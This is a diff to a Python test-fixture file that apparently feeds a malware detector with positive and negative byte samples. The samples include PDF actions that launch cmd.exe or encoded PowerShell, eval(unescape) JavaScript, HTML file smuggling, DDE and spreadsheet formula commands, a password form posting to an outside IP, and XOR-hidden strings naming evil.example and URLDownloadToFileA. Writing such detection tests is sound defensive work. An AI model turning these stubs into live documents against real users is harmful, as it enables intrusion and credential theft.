@@ -5,6 +5,7 @@ from __future__ import annotations
 import json
 import struct
 import zipfile
+from base64 import b64encode
 from io import BytesIO
 from pathlib import Path
 
@@ -40,10 +41,48 @@ def stored(name: str) -> bytes:
     return out.getvalue()
 
 
+def swf(signature: bytes) -> bytes:
+    """The beginning of a movie: header, then a frame, zlib's or LZMA's first bytes."""
+    body = {
+        b"FWS": b"\x78\0\x05\x5f" + bytes(40),
+        b"CWS": b"\x78\xda" + bytes(40),
+        b"ZWS": b"\x40\0\0\0\x5d\0\0" + bytes(40),
+    }
+    return signature + b"\x0d\x00\x20\x00\x00" + body[signature]
+
+
+def xor(content: bytes, key: int) -> bytes:
+    """Content under a key of one byte."""
+    return bytes(one ^ key for one in content)
+
+
 SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
     "eicar_test_file": ([eicar(), eicar() + b"\r\n"], [b"see: " + eicar(), eicar() + bytes(200)]),
-    "zip_behind_other_bytes": ([b"MZ" + bytes(50) + zipped(a=b"x")], [zipped(a=b"x"), b"PK\x05\x06" + bytes(30)]),
     "packed_with_upx": ([pe([b"UPX0"], b"UPX!"), b"\x7fELF" + bytes(90) + b"UPX!" + bytes(36)], [pe([b".text"]), b"UPX!"]),
+    "zip_behind_other_bytes": ([b"MZ" + bytes(50) + zipped(a=b"x")], [zipped(a=b"x"), b"PK\x05\x06" + bytes(30), b"\x7fELF" + bytes(900) + b"PK\x03\x04PK\x01\x02PK\x05\x06PK\x06\x07" + bytes(90)]),
+    "swf_inside_other_bytes": (
+        [b"%PDF " + swf(b"FWS"), b"x" + swf(b"CWS"), b"\xd0\xcf\x11\xe0" + swf(b"ZWS")],
+        [swf(b"FWS"), swf(b"CWS"), b"the marks FWS, CWS and ZWS in prose", b"xFWS\x09" + b"\xff" * 30, b"xCWS\x09" + bytes(30)],
+    ),
+    "base64_of_a_file": (
+        [b'$x = "' + b64encode(pe([b".text"])), b"data:application/zip;base64," + b64encode(zipped(a=b"x" * 99)), b"'\\n" + b64encode(b"%PDF-1.7" + bytes(90)),
+         b"\1\2" + b64encode(b"MZ\x90\0" * 40).decode().encode("utf-16-le"), b"MIME-Version: 1.0\n\n" + b64encode(pe([b".text"]))],
+        [b'$x = "' + b64encode(b"plain words " * 20), b'"' + b64encode(b"MZ" + bytes(20)) + b'"', b"aaTVqQ" + b"AAAA" * 20, b"TVqQ UEsDB JVBERi0 H4sI " * 9,
+         b"From: a\nMIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n" + b64encode(pe([b".text"]))],
+    ),
+    "program_hidden_by_xor": (
+        [b"x" * 50 + xor(b"MZ..This program cannot be run in DOS mode.", 0x5A), xor(b"This program must be run under Win32", 1)],
+        [b"MZ This program cannot be run in DOS mode", xor(b"This program cannot be run", 0x5A), bytes(one ^ at & 255 for at, one in enumerate(b"This program cannot be run in DOS mode"))],
+    ),
+    "words_hidden_by_xor": (
+        [b".." + xor(b"URLDownloadToFileA", 7), xor(b"http://evil.example/", 0x99), xor(b"https://", 1)],
+        [b"http://a.example/ https:// GetProcAddress WScript.Shell URLDownloadToFile", xor(b"URLDownload", 7)],
+    ),
+    "xml_data_package": (
+        [b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf><document><chunk>QUJD', b'%PDF-1.4 http://ns.adobe.com/xdp/pdf/ <pdf:Chunk x="">',
+         '<x xmlns="http://ns.adobe.com/xdp/"><chunk>'.encode("utf-16-le")],
+        [b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><chunks>', b"<html><chunk>QUJD</chunk>"],
+    ),
     "pe_packed_upx": ([pe([b"UPX0", b"UPX1"], b"UPX!")], [pe([b".text"], b"UPX!"), pe([b"UPX0"])]),
     "pe_packer_section_name": ([pe([b".text", b".vmp0"]), pe([b".themida"])], [pe([b".text", b".data"])]),
     "pe_injects_into_processes": (
@@ -72,9 +111,20 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
         [b'<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>', b"a,b\n=cmd|'/c calc'!A1\n"],
         [b"<w:instrText>PAGE</w:instrText>", b"a,b\n=SUM(A1:A2)\n", b"he said DDE and cmd"],
     ),
-    "pdf_runs_on_open": (
-        [b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaScript /JS (x)>>", b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>"],
-        [b"%PDF-1.7\n<</OpenAction [1 0 R /Fit]>>", b"/OpenAction /JavaScript"],
+    "pdf_javascript_on_open": (
+        [b"%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaScript /JS (x)>>", b"%PDF-1.7\n<</OpenAction<</S/JavaScript/JS 5 0 R>>>>"],
+        [b"%PDF-1.7\n<</OpenAction [1 0 R /Fit]>>", b"/OpenAction /JavaScript",
+         b'%PDF-1.7\n<</FT /Tx /AA <</F <</S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, "", true\\);)>>>>>>'],
+    ),
+    "pdf_javascript_unpacks_code": (
+        [b"%PDF-1.7\n<</S /JavaScript /JS (eval\\(unescape\\('%75%6e'\\)\\))>>",
+         b"%PDF-1.4 <</S/JavaScript/JS(this.exportDataObject({cName:'a.exe', nLaunch:2});)>>"],
+        [b"%PDF-1.7\n<</S /JavaScript /JS (AFNumber_Format\\(2\\))>>", b"eval(unescape('%75')) in prose",
+         b"%PDF-1.7\n(how to eval\\(unescape\\(x\\)\\) in a browser)"],
+    ),
+    "pdf_starts_program": (
+        [b"%PDF-1.4 <</S /Launch /F (cmd.exe)>>", b"%PDF-1.4 <</S/Launch/Win<</F(powershell.exe)/P(-enc x)>>>>"],
+        [b"%PDF-1.4 <</S /Launch /F (chapter2.pdf)>>", b"/Launch /F (cmd.exe)"],
     ),
     "rtf_equation_exploit": (
         [b"{\\rtf1{\\object\\objdata 0105000002000000" + b"Equation.3".hex().encode() + b"}}"],
@@ -107,7 +157,9 @@ SAMPLES: dict[str, tuple[list[bytes], list[bytes]]] = {
     ),
     "html_smuggles_file": (
         [b"<html><script>var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.iso';a.click()</script>"],
-        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>"],
+        [b"<html><script>a.href=URL.createObjectURL(new Blob([csv]));a.download='t.csv';a.click()</script>",
+         b"(function(){var d=atob('" + B64 + b"');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x';a.click()})();" + bytes(5000) + b"<svg>",
+         b"<html><script>atob(x)" + b" " * 9000 + b"new Blob([d]);URL.createObjectURL(b);a.download='x';a.click();f='" + B64 + b"'</script>"],
     ),
     "html_password_form_to_elsewhere": (
         [b'<form action="http://203.0.113.7/x"><input name=p type="password">', b'<title>Office 365 sign in</title><form action="next.php"><input type=password>'],
